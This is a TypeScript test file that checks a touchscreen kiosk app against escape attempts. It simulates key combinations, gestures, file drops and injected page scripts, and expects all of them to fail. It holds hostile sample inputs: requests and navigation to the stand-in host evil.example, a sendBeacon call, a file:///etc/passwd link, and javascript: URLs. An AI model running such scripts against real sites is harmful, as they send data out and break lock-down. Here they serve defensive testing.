import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inProject } from '#build/project-root.ts';
import { openDoor, type Door } from '#host/adapters/door/kiosk-door.ts';
import { closeBrowser, openBrowser } from '#tests/driver/browser.ts';
import { EscapeWatch } from '#tests/driver/escape-watch.ts';
import { until } from '#tests/driver/until.ts';
import { words } from '#tests/driver/words.ts';
import { testHost } from '#tests/fakes/test-host.ts';

const kiosk = testHost();
const folder = mkdtempSync(join(tmpdir(), 'mot-cham-escapes-'));
const file = join(folder, 'secret.html');
let door: Door;
let watch: EscapeWatch;

beforeAll(async () => {
  writeFileSync(file, '<p>secret</p>');
  await kiosk.host.start(null);
  await kiosk.host.handlers.staffSetPin({ pin: '284617' });
  const opened = await kiosk.host.handlers.staffUnlock({ pin: '284617' });
  await kiosk.host.handlers.saveSettings({ settings: { language: 'vi', profile: null, tapRestSeconds: 5 }, finish: true, key: opened.ok ? opened.value.key : '' });
  const media = { pack: inProject('assets/pack'), made: inProject('dist/media'), content: folder };
  const result = await openDoor({ host: kiosk.host, log: kiosk.log, pageFolder: inProject('dist/renderer'), media, port: 0, token: 'the-token', devOrigin: null });
  if (!result.ok) throw new Error(result.error.message);
  door = result.value;
  const context = await (await openBrowser()).newContext({ viewport: { width: 1080, height: 1920 }, hasTouch: true, reducedMotion: 'reduce', acceptDownloads: true });
  watch = await EscapeWatch.open(context, `${door.url}/`);
  await watch.page.locator('.attract-start').waitFor();
});
afterAll(async () => {
  await watch.page.context().close();
  await door.close();
  await kiosk.host.close();
  rmSync(folder, { recursive: true, force: true });
  await closeBrowser();
});

/** Keys that a browser in kiosk mode still obeys, or the system behind it (Windows: Assigned Access; docs/lock-down.md). */
const KEYS = [
  'F1', 'F3', 'F5', 'F6', 'F7', 'F10', 'F11', 'F12', 'Shift+F10', 'Shift+F5', 'Ctrl+F5', 'Alt+F4', 'Ctrl+F4', 'Shift+Escape', 'Ctrl+Escape', 'Alt+Escape', 'Alt+Tab', 'Ctrl+Tab',
  'Ctrl+r', 'Ctrl+Shift+R', 'Ctrl+w', 'Ctrl+t', 'Ctrl+n', 'Ctrl+Shift+N', 'Ctrl+Shift+T', 'Ctrl+l', 'Alt+d', 'Ctrl+k', 'Ctrl+e', 'Ctrl+o', 'Ctrl+s', 'Ctrl+p', 'Ctrl+Shift+P', 'Ctrl+u', 'Ctrl+j', 'Ctrl+h',
  'Ctrl+d', 'Ctrl+f', 'Ctrl+g', 'Ctrl+q', 'Ctrl+Shift+I', 'Ctrl+Shift+J', 'Ctrl+Shift+C', 'Ctrl+Shift+Delete', 'Ctrl++', 'Ctrl+-', 'Ctrl+0', 'Ctrl+=', 'Alt+ArrowLeft', 'Alt+ArrowRight', 'Alt+Home', 'Alt+Enter', 'Alt+F', 'Alt',
  'Meta', 'Meta+r', 'Meta+e', 'Meta+d', 'Meta+l', 'Meta+u', 'Meta+i', 'Meta++', 'Meta+Tab', 'Ctrl+Meta+Enter', 'Ctrl+Meta+o', 'Meta+Shift+S', 'Meta+.',
  'BrowserBack', 'BrowserForward', 'BrowserHome', 'BrowserRefresh', 'BrowserSearch', 'LaunchMail', 'LaunchApplication1', 'ContextMenu', 'PrintScreen', 'Help', 'Find', 'Print', 'Open', 'Save', 'ZoomIn', 'ZoomOut', 'MediaPlayPause',
] as const;

const middle = { x: 540, y: 700 };
type Try = readonly [what: string, act: () => Promise<unknown>];

const mouse = (button: 'left' | 'middle' | 'right' | 'back' | 'forward') => async (): Promise<void> => {
  for (const type of ['mousePressed', 'mouseReleased'] as const) await watch.cdp.send('Input.dispatchMouseEvent', { type, ...middle, button, clickCount: 1 });
};
const drag = (from: { readonly x: number; readonly y: number }) => async (): Promise<void> => {
  await watch.page.mouse.move(from.x, from.y);
  await watch.page.mouse.down();
  await watch.page.mouse.move(from.x + 200, from.y + 60, { steps: 4 });
  await watch.page.mouse.up();
};
const dropped = (data: { readonly files?: readonly string[]; readonly items?: readonly { readonly mimeType: string; readonly data: string }[] }) => async (): Promise<void> => {
  const given = { items: [...(data.items ?? [])], files: [...(data.files ?? [])], dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await watch.cdp.send('Input.dispatchDragEvent', { type, ...middle, data: given });
};
const touches = (points: readonly (readonly { readonly x: number; readonly y: number }[])[]) => async (): Promise<void> => {
  for (const [index, at] of points.entries()) await watch.cdp.send('Input.dispatchTouchEvent', { type: index === 0 ? 'touchStart' : 'touchMove', touchPoints: at.map((point, id) => ({ ...point, id })) });
  await watch.cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
};
const swipe = (from: number, to: number) => touches([0, 1, 2, 3, 4].map((step) => [{ x: from + ((to - from) * step) / 4, y: 900 }]));
const pinch = touches([40, 120, 200, 280, 360].map((gap) => [{ x: 540 - gap, y: 700 }, { x: 540 + gap, y: 700 }]));
const onText = async (clicks: number): Promise<void> => {
  const box = await watch.page.locator('h1, h2, p').first().boundingBox();
  await watch.page.mouse.click((box?.x ?? 0) + 20, (box?.y ?? 0) + 10, { clickCount: clicks });
};

/** What hands can do to a screen, a mouse and a stick with files. */
const HANDS: readonly Try[] = [
  // All at once: whatever the page lets through names its key.
  ['every key', () => Promise.all(KEYS.map((key) => watch.press(key)))],
  ['the right button', mouse('right')], ['the middle button', mouse('middle')], ['the back button of a mouse', mouse('back')], ['the forward button of a mouse', mouse('forward')],
  ['Ctrl and the wheel', async () => watch.cdp.send('Input.dispatchMouseEvent', { type: 'mouseWheel', ...middle, deltaX: 0, deltaY: -240, modifiers: 2 })],
  ['the wheel', async () => watch.cdp.send('Input.dispatchMouseEvent', { type: 'mouseWheel', ...middle, deltaX: 0, deltaY: 600 })],
  ['two fingers apart', pinch], ['two fingers together', touches([360, 200, 40].map((gap) => [{ x: 540 - gap, y: 700 }, { x: 540 + gap, y: 700 }]))],
  ['a swipe from the left edge', swipe(2, 900)], ['a swipe from the right edge', swipe(1078, 100)], ['five fingers', touches([[100, 300, 500, 700, 900].map((x) => ({ x, y: 700 })), [100, 300, 500, 700, 900].map((x) => ({ x, y: 300 }))])],
  ['a long press', async () => {
    await watch.cdp.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: [{ x: 540, y: 300 }] });
    await watch.page.waitForTimeout(650);
    await watch.cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
  }],
  ['a double click on a word', () => onText(2)], ['a triple click on a line', () => onText(3)], ['select all', () => watch.press('Ctrl+a')],
  ['dragging a picture', drag(middle)], ['dragging text', drag({ x: 120, y: 120 })],
  ['letting a file fall', dropped({ files: [file] })], ['letting an address fall', dropped({ items: [{ mimeType: 'text/uri-list', data: 'https://evil.example/' }] })], ['letting text fall', dropped({ items: [{ mimeType: 'text/plain', data: 'javascript:alert(1)' }] })],
];

/** A hostile text that came as far as running in the page: it finds no way out either. */
const SCRIPTS: Readonly<Record<string, string>> = {
  'window.open': "window.open('https://evil.example/')",
  'alert storms': 'for (let i = 0; i < 500; i++) { alert(i); confirm(i); prompt(i); }',
  'a link into a new window': "click({ href: 'https://evil.example/', target: '_blank' })",
  'a link to another page': "click({ href: 'https://evil.example/' })",
  'a link to a file': "click({ href: 'file:///etc/passwd' })",
  'a link to a script': "click({ href: 'javascript:window.open(1)' })",
  'a link to data': "click({ href: 'data:text/html,<p>x' })",
  'a link to a download': "click({ href: '/media/pack.json', download: 'x' })",
  'a link to the source': "click({ href: 'view-source:' + location.href })",
  'a link to another program': "click({ href: 'intent://scan/#Intent;scheme=zxing;end' }); click({ href: 'tel:113' }); click({ href: 'mailto:a@b.vn' }); click({ href: 'ms-settings:' }); click({ href: 'zalo://x' })",
  'a change of address': "location.href = 'https://evil.example/'",
  'a change to the safe page': "location.assign('/safe.html')",
  'a change of history': "history.pushState(null, '', '/x'); history.back()",
  'a form': "const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit(); form.remove()",
  'a frame': "const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); frame.remove()",
  'a picture from elsewhere': "new Image().src = 'https://evil.example/x.png'",
  'a request elsewhere': "fetch('https://evil.example/').catch(() => 0); new WebSocket('wss://evil.example/').onerror = () => 0; navigator.sendBeacon('https://evil.example/', 'x')",
  'code in text': "try { eval('window.open(1)') } catch {} try { new Function('window.open(1)')() } catch {} const code = document.createElement('script'); code.textContent = 'window.escapeTraces.prints = 9'; document.body.append(code); code.remove()",
  'a choice of files': "const input = document.createElement('input'); input.type = 'file'; document.body.append(input); input.click(); setTimeout(() => input.remove(), 200)",
  'a picker of files': "const input = document.createElement('input'); input.type = 'file'; document.body.append(input); try { input.showPicker() } catch {} setTimeout(() => input.remove(), 200); for (const name of ['showOpenFilePicker', 'showDirectoryPicker', 'showSaveFilePicker']) window[name]?.().catch(() => 0)",
};
/** These open for a page only while a finger has just touched it. */
const AFTER_A_TOUCH = /files/;

const WITH_LINKS = `const click = (how) => { const link = Object.assign(document.createElement('a'), how); document.body.append(link); link.click(); link.remove(); };`;
const scripts = Object.entries(SCRIPTS).map(([what, script]): Try => [what, async () => {
  if (AFTER_A_TOUCH.test(what)) await touches([[{ x: 3, y: 3 }]])();
  await watch.page.evaluate(`(() => { ${WITH_LINKS} ${script} })()`);
  if (AFTER_A_TOUCH.test(what)) await watch.page.waitForTimeout(250);
}]);

async function tryAll(tries: readonly Try[]): Promise<Readonly<Record<string, readonly string[]>>> {
  const worked: Record<string, readonly string[]> = {};
  for (const [what, act] of tries) {
    const failed = await act().then(() => [], (error: unknown) => [String(error)]);
    const escapes = [...failed, ...(await watch.escapes())];
    if (escapes.length > 0) worked[what] = escapes;
  }
  return worked;
}

async function open(screen: string, selector: string): Promise<void> {
  // A touch right after a change of screen counts for nothing (E077): one touches again.
  await until(async () => {
    await watch.page.locator(selector).first().tap();
    return watch.page.locator(`.frame-${screen}`).waitFor({ timeout: 1_500 }).then(() => true, () => false);
  }, `the ${screen} screen is open`);
  await watch.page.waitForTimeout(450);
}

describe('nobody leaves the kiosk', () => {
  it('from the waiting screen by hand', async () => {
    expect(await tryAll(HANDS)).toEqual({});
  });

  it('from the search screen by its field, a keyboard or a giant paste', async () => {
    if ((await watch.page.locator('.frame-home').count()) === 0) await open('home', '.attract-start');
    await open('search', '.home-search');
    const field = watch.page.locator('.search-field input');
    await field.focus();
    expect(await tryAll(HANDS.filter(([what]) => /every key|button|fall/.test(what)))).toEqual({});
    await field.focus();
    await watch.cdp.send('Input.insertText', { text: 'ấ'.repeat(300_000) });
    await expect.poll(() => field.inputValue().then((value) => value.length)).toBe(60);
    expect(await watch.escapes()).toEqual([]);
    expect(await watch.page.locator('.search-field input').evaluate((input) => (input as HTMLInputElement).inputMode)).toBe('none');
  });

  it('to the staff page by fewer than three touches on three screens', async () => {
    const staff = words('vi', 'help.staff');
    expect(await watch.page.getByText(staff).count()).toBe(0);
    await watch.page.locator('.bar-help').tap();
    await watch.page.getByText(staff).waitFor();
  });

  it('by a text that runs as a script', async () => {
    expect(await tryAll(scripts)).toEqual({});
  });

  it('from the safe page by hand, should it ever stand there', async () => {
    const safe = await EscapeWatch.open(watch.page.context(), `${door.url}/safe.html`);
    await watch.page.close();
    watch = safe;
    expect(await tryAll(HANDS.filter(([what]) => /every key|button|fall|fingers|double/.test(what)))).toEqual({});
    expect(await tryAll(scripts.filter(([what]) => /window|alert|link|address|files/.test(what)))).toEqual({});
  });

  it('and the shell itself still loads the page anew', async () => {
    await watch.page.goto(`${door.url}/`);
    await watch.page.locator('.attract-start').waitFor();
  });
});
